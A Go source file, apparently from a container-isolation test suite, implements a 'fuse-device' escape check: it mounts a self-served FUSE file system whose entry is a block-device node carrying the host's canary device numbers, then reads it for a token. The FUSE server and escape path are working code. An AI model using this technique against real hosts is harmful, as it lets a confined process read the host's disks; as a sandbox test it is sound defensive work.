// SPDX-License-Identifier: Apache-2.0

//go:build linux

package main

import (
	"errors"
	"fmt"
	"path/filepath"
	"runtime"

	"golang.org/x/sys/unix"
)

func fuseAttacks() []attack {
	return []attack{
		{
			"fuse-device", "serves a file system (FUSE) with a node of the host's canary device in it and reads that",
			"the host's disks", fuseDevice,
		},
	}
}

// Requests of the kernel (linux/fuse.h, enum fuse_opcode).
const (
	fuseLookup      = 1
	fuseForget      = 2
	fuseGetattr     = 3
	fuseInit        = 26
	fuseBatchForget = 42
)

// fuseDevice is its own file server: without mknod, nodes of devices come from somebody's file system alone.
func fuseDevice(w *world) finding {
	numbers, ok := device(w.CanaryDevice)
	if !ok {
		return notHere("-canary-device is not given")
	}
	connection, err := openFuse(w)
	if err != nil {
		return refused("opening /dev/fuse", err)
	}
	place, err := w.spare()
	if err != nil {
		return refused("finding a place", err)
	}
	options := fmt.Sprintf("fd=%d,rootmode=40000,user_id=%d,group_id=%d", connection, unix.Getuid(), unix.Getgid())
	if err := w.mount("escape", place, "fuse", 0, options); err != nil {
		return refused("mounting FUSE", err)
	}
	go func() {
		runtime.LockOSThread()
		serveFuse(connection, uint32(numbers)) //nolint:gosec // G115: the kernel's device numbers have 32 bits here
	}()
	fd, err := unix.Open(filepath.Join(place, "canary"), unix.O_RDONLY|unix.O_CLOEXEC, 0)
	_ = unix.Unmount(place, unix.MNT_DETACH)
	if err != nil {
		return refused("opening the device in its own file system", err)
	}
	if token := w.Find(readFD(fd)); token != "" {
		return outWith(token, "read the host's block device by a node in FUSE")
	}
	return notHere("the device has no token")
}

// openFuse opens /dev/fuse, or a node of its own.
func openFuse(w *world) (int, error) {
	fd, err := unix.Open("/dev/fuse", unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err == nil || !errors.Is(err, unix.ENOENT) {
		return fd, err
	}
	return w.openNode(unix.S_IFCHR, int(unix.Mkdev(10, 229)), unix.O_RDWR) //nolint:gosec // G115: a small number
}

// serveFuse answers the kernel until the file system is gone: its root is a directory, and everything in it is the
// device.
func serveFuse(connection int, device uint32) {
	const headerSize, nodeOffset = 40, 16
	buffer := make([]byte, 1<<20)
	for {
		n, err := unix.Read(connection, buffer)
		if errors.Is(err, unix.EINTR) {
			continue
		}
		if err != nil || n < headerSize {
			return
		}
		request := buffer[:n]
		opcode, unique := le32(request[4:]), request[8:16]
		var answer []byte
		errno := int32(0)
		switch opcode {
		case fuseForget, fuseBatchForget: // are not answered
			continue
		case fuseInit: // version 7.31, no flags, and the sizes that older kernels know
			answer = words(uint32(7), uint32(31), uint32(0), uint32(0), uint16(0), uint16(0), uint32(4096), make([]byte, 40))
		case fuseLookup:
			answer = append(words(uint64(2), uint64(0), uint64(0), uint64(0), uint32(0), uint32(0)), fuseAttr(2, unix.S_IFBLK|0o666, device)...)
		case fuseGetattr:
			attr := fuseAttr(1, unix.S_IFDIR|0o755, 0)
			if request[nodeOffset] == 2 {
				attr = fuseAttr(2, unix.S_IFBLK|0o666, device)
			}
			answer = append(words(uint64(0), uint32(0), uint32(0)), attr...)
		default:
			errno = -int32(unix.ENOSYS)
		}
		head := words(uint32(16+len(answer)), errno, unique) //nolint:gosec // G115: a short answer
		if _, err := unix.Write(connection, append(head, answer...)); err != nil {
			return
		}
	}
}

// fuseAttr is struct fuse_attr.
func fuseAttr(inode uint64, mode, device uint32) []byte {
	return words(inode, uint64(0), uint64(0), uint64(0), uint64(0), uint64(0), uint32(0), uint32(0), uint32(0), mode, uint32(1), uint32(0), uint32(0), device, uint32(4096), uint32(0))
}
